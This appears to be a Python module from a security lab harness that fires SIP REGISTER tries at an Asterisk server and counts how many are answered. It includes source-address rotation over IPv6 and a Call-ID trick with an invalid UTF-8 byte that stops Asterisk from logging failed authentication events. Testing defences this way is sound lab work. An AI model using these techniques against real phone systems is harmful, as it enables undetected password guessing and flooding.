"""Tries from one source, paced or as fast as answers come, and how many of them were answered."""

import secrets
import select
import socket
import ssl
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field, replace
from itertools import cycle
from typing import Protocol

from lab.attack.arena import WEB_PORT, Arena, tls
from lab.fort import SIP_PORT
from lab.sip_request import INVENTED, Request, Target, near, register

#: After so long without an answer nobody answers any more; a busy machine gets its time.
SILENCE_S = 2.0
_REFUSED = b"SIP/2.0 401"

Try = Callable[[int], bytes]


class Line(Protocol):
    """What carries a volley. `peer` is Asterisk's address and port."""

    sock: socket.socket
    peer: tuple[str, int]

    def send(self, data: bytes) -> None:
        """Send one request."""

    def receive(self) -> bytes:
        """Return what has come, b"" for nothing. Raise OSError when the line is cut."""


class Datagrams:
    """UDP."""

    def __init__(self, arena: Arena, address: str) -> None:
        self.sock = arena.socket(address)
        self.peer = (arena.target(address).address, SIP_PORT)
        self.sock.connect(self.peer)

    def send(self, data: bytes) -> None:
        """Send one request."""
        self.sock.send(data)

    def receive(self) -> bytes:
        """Return one answer."""
        return self.sock.recv(65536)


class Rotation:
    """UDP from many addresses of one socket."""

    def __init__(self, arena: Arena, addresses: Sequence[str]) -> None:
        self.sock = arena.socket("::")
        self.peer = (arena.target("::").address, SIP_PORT)
        self._sources = cycle(socket.inet_pton(socket.AF_INET6, one) for one in addresses)

    def send(self, data: bytes) -> None:
        """Send one request from the next address (RFC 3542, 6.1)."""
        source = next(self._sources) + bytes(4)
        words = [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, source)]
        self.sock.sendmsg([data], words, 0, self.peer)

    def receive(self) -> bytes:
        """Return one answer."""
        return self.sock.recv(65536)


class Stream:
    """TCP, or TLS on it."""

    def __init__(self, arena: Arena, address: str, port: int, *, secure: bool = False) -> None:
        sock = arena.socket(address, socket.SOCK_STREAM)
        self.peer = (arena.target(address).address, port)
        sock.connect(self.peer)
        self.sock = tls().wrap_socket(sock) if secure else sock

    def send(self, data: bytes) -> None:
        """Send one request."""
        self.sock.sendall(data)

    def receive(self) -> bytes:
        """Return what has come."""
        data = self.sock.recv(65536)
        while isinstance(self.sock, ssl.SSLSocket) and self.sock.pending():
            data += self.sock.recv(65536)
        if not data:
            raise ConnectionResetError
        return data


class WebSocket(Stream):
    """SIP over WebSocket (RFC 7118); answers are counted in the raw stream."""

    def __init__(self, arena: Arena, address: str) -> None:
        super().__init__(arena, address, WEB_PORT)
        self.sock.sendall(
            b"GET /ws HTTP/1.1\r\nHost: pbx\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            b"Sec-WebSocket-Key: " + b"A" * 22 + b"==\r\n"
            b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Protocol: sip\r\n\r\n"
        )
        if b" 101 " not in self.sock.recv(4096):
            raise ConnectionRefusedError("no WebSocket")

    def send(self, data: bytes) -> None:
        """Send one masked text frame (RFC 6455, 5.2); the mask is zero."""
        length = len(data)
        super().send(b"\x81\xfe" + length.to_bytes(2, "big") + bytes(4) + data)


@dataclass
class Volley:
    """What was sent, and when it began and answers came (Unix seconds)."""

    sent: int = 0
    began: float = field(default_factory=time.time)
    answers: list[float] = field(default_factory=list)

    @property
    def answered(self) -> int:
        """Count the answers."""
        return len(self.answers)


def wrong_password(line: Line, transport: str = "UDP") -> Try:
    """Return tries with a password that is surely wrong: each is one request, and one failure."""
    first = _first(line, transport)

    def make(number: int) -> bytes:
        request = replace(first, call_id=f"{number:08}{first.call_id}")
        return request.signed(secrets.token_hex(6), INVENTED).bytes()

    return make


def unknown_account(line: Line) -> Try:
    """Return requests for accounts that Asterisk does not have."""
    first = _first(line, "UDP")
    return lambda number: replace(
        first, user=f"9{number:06}", call_id=f"{number:08}{first.call_id}"
    ).bytes()


def hidden_events(line: Line) -> Try:
    """Return wrong passwords of which Asterisk tells no event: a byte of the Call-ID is no
    UTF-8 (security_events.c fails to make JSON of it).
    """
    make = wrong_password(line)
    return lambda number: make(number).replace(b"Call-ID: ", b"Call-ID: \xff", 1)


def _first(line: Line, transport: str) -> Request:
    address, port = line.sock.getsockname()[:2]
    host, to_port = line.peer
    return register("101", Target(host, to_port), near(address, port), transport)


def fire(line: Line, make: Try, most: int, per_second: float | None = None) -> Volley:
    """Send tries until nobody answers, or `most`: paced, or each as soon as one was answered."""
    volley, due = Volley(), time.monotonic()
    heard = due
    gap = 1 / per_second if per_second else SILENCE_S
    while volley.sent < most and time.monotonic() - heard < SILENCE_S:
        now = time.monotonic()
        if now >= due:
            try:
                line.send(make(volley.sent))
            except OSError:
                break
            volley.sent += 1
            due = max(due + gap, now)
        if _listen(line, volley, max(0.0, due - time.monotonic())):
            heard = time.monotonic()
            due = due if per_second else heard
    while _listen(line, volley, SILENCE_S / 2):
        pass
    return volley


def _listen(line: Line, volley: Volley, timeout_s: float) -> bool:
    """Wait for an answer; tell whether one came."""
    if not select.select([line.sock], [], [], timeout_s)[0]:
        return False
    try:
        count = line.receive().count(_REFUSED)
    except OSError:
        return False
    volley.answers += [time.time()] * count
    return count > 0
